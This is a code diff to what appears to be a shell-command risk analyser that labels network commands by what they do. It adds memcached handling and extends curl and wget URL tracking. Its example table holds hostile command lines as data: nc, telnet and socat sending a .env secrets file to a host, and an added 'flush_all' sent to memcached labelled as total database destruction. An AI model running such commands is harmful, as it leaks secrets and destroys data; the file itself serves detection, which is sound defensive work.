@@ -13,6 +13,7 @@ import { GAP_SHAPE } from "../../model/gap-shapes.js";
 import { attrs, emitPath, gap, pathTarget, resolveAll, substGap, targetText, type Attrs, type Ctx } from "./common.js";
 import { socatFile, sshRemoteForward } from "./expose.js";
 import { removeSource } from "./source-removal.js";
+import { memcachedStdin } from "./database.js";
 import { entry, handlerTable, type Handler, type ProgramEntry } from "./entries.js";
 import { headerCarrier, sendSecretVariables, sendStdin, sendSubstitutedSecrets, type Carrier } from "./flow.js";
 
@@ -78,7 +79,7 @@ function curl(ctx: Ctx): void {
   sendSecretVariables(ctx, [...p.operands.map((o) => ({ arg: o.arg, carrier: "url" as Carrier })), ...p.flags.flatMap((f) => {
     const carrier = f.value === null ? null : curlCarrier(f.name, f.value);
     return carrier === null ? [] : [{ arg: f.arg, carrier }];
-  })]);
+  })], urls);
   let readsStdin = false;
   for (const f of p.flags) {
     if (f.value === null) continue;
@@ -194,7 +195,7 @@ function wget(ctx: Ctx): void {
     ...p.operands.map((o) => ({ arg: o.arg, carrier: "url" as Carrier })),
     ...p.flags.flatMap((f): Array<{ arg: Arg; carrier: Carrier }> =>
       f.value === null ? [] : f.name === "header" ? [{ arg: f.arg, carrier: headerCarrier(f.value) }] : f.name === "post-data" || f.name === "body-data" ? [{ arg: f.arg, carrier: "data" }] : []),
-  ]);
+  ], urls);
   for (const f of p.flags) {
     if (f.value === null) continue;
     if (f.name === "post-file" || f.name === "body-file") {
@@ -418,6 +419,7 @@ function socketSender(ctx: Ctx): void {
   }
   sendStdin(ctx);
   sendSubstitutedSecrets(ctx);
+  memcachedStdin(ctx);
   if (ctx.program === "socat") socatFile(ctx);
 }
 
@@ -438,7 +440,9 @@ export const NETWORK_PROGRAMS: readonly ProgramEntry[] = [
     ["nc 10.0.0.1 80 < .env", "read secret_file; send secret_file"],
     ["telnet host < .env", "read secret_file; send secret_file"],
     ["socat - TCP:10.0.0.1:80 < .env", "read secret_file; send secret_file"],
+    ["echo flush_all | nc cache 11211", "destroy database total"],
     ["ncat 10.0.0.1 80", ""],
+    ["echo stats | nc cache 11211", ""],
     ["telnet 10.0.0.1 25", ""],
   ]),
   entry(Object.keys(DOWNLOADER_ROWS), downloader, [
